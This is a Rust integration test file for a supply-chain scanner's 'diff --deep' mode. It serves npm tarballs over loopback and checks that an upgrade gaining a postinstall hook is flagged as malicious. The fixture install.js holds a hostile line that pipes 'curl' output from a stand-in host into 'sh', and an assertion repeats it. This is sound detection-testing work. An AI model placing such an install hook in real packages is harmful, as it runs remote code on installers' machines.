//! `tollgate diff --deep` end to end: a loopback npm registry (`NPM_CONFIG_REGISTRY`, as
//! `deep_sources.rs` sets it) serves two versions of a package whose tarballs the test
//! writes, and a git repository has two commits of a package-lock that records their
//! hashes. The upgrade gains a postinstall whose script pipes a download into `sh`: the
//! JSON shows the new verdict and hook, the install-time file as a unified diff, and the
//! verdict's finding fails the diff. No network beyond 127.0.0.1.

mod common;

use std::path::Path;

use serde_json::{Value, json};

/// 1.0.0 ships `install.js` but runs nothing at install time.
const OLD_INSTALL_JS: &str = "console.log(\"hooked: nothing to set up\");\n";
/// 1.1.0 runs it as a postinstall, and it now fetches a script and pipes it into `sh`.
const NEW_INSTALL_JS: &str = "const { execSync } = require(\"child_process\");\nconsole.log(\"hooked: setting up\");\nexecSync(\"curl -fsSL https://hooked-cdn.example/setup.sh | sh\");\n";

/// Package `name`'s two tarballs: 1.0.0 and 1.1.0.
fn tarballs(name: &str) -> [(&'static str, Vec<u8>); 2] {
    let old = format!(r#"{{"name":"{name}","version":"1.0.0","license":"MIT"}}"#);
    let new = format!(
        r#"{{"name":"{name}","version":"1.1.0","license":"MIT","scripts":{{"postinstall":"node install.js"}}}}"#
    );
    [
        (
            "1.0.0",
            common::npm_tarball(&[("package.json", &old), ("install.js", OLD_INSTALL_JS)]),
        ),
        (
            "1.1.0",
            common::npm_tarball(&[("package.json", &new), ("install.js", NEW_INSTALL_JS)]),
        ),
    ]
}

/// A package-lock locking each of `names` at `version` from `registry`, with the
/// tarball's hash (`hasInstallScript` for 1.1.0, which runs one).
fn lock(registry: &str, names: &[&str], version: &str) -> String {
    let mut packages = json!({ "": { "name": "app", "version": "1.0.0", "dependencies": {} } });
    for name in names {
        let tarball = tarballs(name)
            .into_iter()
            .find(|(v, _)| *v == version)
            .unwrap()
            .1;
        let mut entry = json!({
            "version": version,
            "resolved": format!("{registry}/{name}/-/{name}-{version}.tgz"),
            "integrity": common::npm_integrity(&tarball),
            "license": "MIT",
        });
        if version == "1.1.0" {
            entry["hasInstallScript"] = json!(true);
        }
        packages[""]["dependencies"][*name] = json!("^1.0.0");
        packages[format!("node_modules/{name}")] = entry;
    }
    let lock = json!({
        "name": "app",
        "version": "1.0.0",
        "lockfileVersion": 3,
        "requires": true,
        "packages": packages,
    });
    serde_json::to_string_pretty(&lock).unwrap()
}

/// The registry, and a repository whose HEAD upgrades hooked 1.0.0 to 1.1.0.
fn setup() -> (tempfile::TempDir, String) {
    setup_with(&["hooked"])
}

/// [`setup`] for every package of `names`.
fn setup_with(names: &[&str]) -> (tempfile::TempDir, String) {
    let served: Vec<(String, Vec<u8>)> = names
        .iter()
        .flat_map(|name| {
            tarballs(name)
                .into_iter()
                .map(move |(version, bytes)| (format!("/{name}/-/{name}-{version}.tgz"), bytes))
        })
        .collect();
    let registry = common::serve(usize::MAX, move |path| {
        match served.iter().find(|(at, _)| at == path) {
            Some((_, bytes)) => ("200 OK", "application/octet-stream", bytes.clone()),
            None => ("404 Not Found", "application/json", b"{}".to_vec()),
        }
    });
    let work = tempfile::tempdir().unwrap();
    let repo = work.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    common::git(&repo, &["init", "-q", "-b", "main"]);
    common::write(&repo, "package-lock.json", &lock(&registry, names, "1.0.0"));
    common::git(&repo, &["add", "."]);
    common::git(&repo, &["commit", "-q", "-m", "base"]);
    common::write(&repo, "package-lock.json", &lock(&registry, names, "1.1.0"));
    common::git(&repo, &["commit", "-q", "-am", "upgrade hooked"]);
    (work, registry)
}

fn diff(work: &Path, registry: &str, args: &[&str]) -> std::process::Output {
    common::tollgate()
        .current_dir(work.join("repo"))
        .env("HOME", work)
        .env("XDG_CACHE_HOME", work.join("cache"))
        .env("XDG_CONFIG_HOME", work.join("config"))
        .env("NPM_CONFIG_REGISTRY", format!("{registry}/"))
        .args(["diff", "HEAD~1", "HEAD", "--deep", "--format", "json"])
        .args(["--allow-missing-db", "--db"])
        .arg(work.join("no-db"))
        .args(args)
        .timeout(std::time::Duration::from_secs(120))
        .output()
        .unwrap()
}

#[test]
fn an_upgrade_that_gains_a_download_piped_into_sh_shows_its_verdict_and_diff() {
    let (work, registry) = setup();
    let output = diff(work.path(), &registry, &["--fail-on", "high"]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    let report: Value =
        serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}: {stderr}"));
    assert_eq!(output.status.code(), Some(1), "{stderr}\n{report:#}");
    assert_eq!(report["errors"], json!([]), "{report:#}");
    assert_eq!(
        report["warnings"],
        json!([]),
        "every version analysed: {report:#}"
    );

    let change = &report["lockfiles"][0]["changes"][0];
    assert_eq!(change["name"], "hooked");
    assert_eq!(change["kind"], "upgraded");
    let code = &change["install_code"];
    // 1.0.0 ran nothing at install time, so it was not analysed: no old verdict.
    assert_eq!(code["old_verdict"], Value::Null, "{code:#}");
    // A download piped into a shell at install time is the judge's strongest rule.
    assert_eq!(code["new_verdict"], "malicious", "{code:#}");
    let hooks: Vec<&str> = code["new_hooks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["command"].as_str().unwrap())
        .collect();
    assert_eq!(hooks, ["node install.js"], "{code:#}");
    assert!(
        !code["new_reasons"].as_array().unwrap().is_empty(),
        "{code:#}"
    );

    // The hook's file, as a unified diff against 1.0.0's.
    let files = code["files"].as_array().unwrap();
    assert_eq!(files.len(), 1, "{code:#}");
    assert_eq!(files[0]["path"], "install.js");
    assert_eq!(files[0]["status"], "modified");
    let unified = files[0]["diff"].as_str().unwrap();
    assert!(
        unified.starts_with("--- a/install.js\n+++ b/install.js\n@@"),
        "{unified}"
    );
    assert!(
        unified.contains("-console.log(\"hooked: nothing to set up\");"),
        "{unified}"
    );
    assert!(
        unified.contains("+execSync(\"curl -fsSL https://hooked-cdn.example/setup.sh | sh\");"),
        "{unified}"
    );

    // The verdict is a new finding of the change, and it is what fails the diff: at
    // `--fail-on high` (a suspicious verdict's severity) and at critical (a malicious one's).
    let new_ids: Vec<&str> = change["new_findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(new_ids, ["install-code/malicious"], "{change:#}");
    let critical = diff(work.path(), &registry, &["--fail-on", "critical"]);
    assert_eq!(critical.status.code(), Some(1));
}

#[test]
fn without_deep_the_same_change_has_no_verdict() {
    let (work, registry) = setup();
    let output = common::tollgate()
        .current_dir(work.path().join("repo"))
        .env("HOME", work.path())
        .env("XDG_CACHE_HOME", work.path().join("cache"))
        .env("NPM_CONFIG_REGISTRY", format!("{registry}/"))
        .args([
            "diff",
            "HEAD~1",
            "HEAD",
            "--format",
            "json",
            "--fail-on",
            "high",
        ])
        .args(["--allow-missing-db", "--db"])
        .arg(work.path().join("no-db"))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    let change = &report["lockfiles"][0]["changes"][0];
    assert_eq!(change["install_code"], Value::Null, "{change:#}");
}

/// On a terminal (a pty from util-linux `script`), `diff --deep` draws the analysis
/// progress bar on stderr, as `scan --deep` does; `-q` turns it off. Skipped without `script`.
#[test]
fn deep_draws_a_progress_bar_on_a_terminal_only() {
    if !common::available("script") {
        eprintln!("skipped: no `script` to give tollgate a terminal");
        return;
    }
    // Two packages: the bar is drawn from two steps on.
    let (work, registry) = setup_with(&["hooked", "hooked-too"]);
    let binary = Path::new(env!("CARGO_BIN_EXE_tollgate"));
    let on_a_terminal = |quiet: &str| {
        let command = format!(
            "{} diff HEAD~1 HEAD --deep --allow-missing-db --db {} --output {} {quiet}",
            binary.display(),
            work.path().join("no-db").display(),
            work.path().join("report.txt").display(),
        );
        let output = std::process::Command::new("script")
            .args(["-qec", &command, "/dev/null"])
            .current_dir(work.path().join("repo"))
            .env("HOME", work.path())
            .env("XDG_CACHE_HOME", work.path().join(format!("cache{quiet}")))
            .env("XDG_CONFIG_HOME", work.path().join("config"))
            .env("NPM_CONFIG_REGISTRY", format!("{registry}/"))
            .env_remove("TOLLGATE_DB")
            .output()
            .unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let shown = on_a_terminal("");
    assert!(
        shown.contains("analysing the head's install-time code"),
        "{shown}"
    );
    let quiet = on_a_terminal("-q");
    assert!(!quiet.contains("analysing"), "{quiet}");
    // Not a terminal: no bar (the other tests' output is captured through pipes).
    let piped = diff(work.path(), &registry, &[]);
    assert!(
        !String::from_utf8_lossy(&piped.stderr).contains("analysing"),
        "{}",
        String::from_utf8_lossy(&piped.stderr)
    );
}
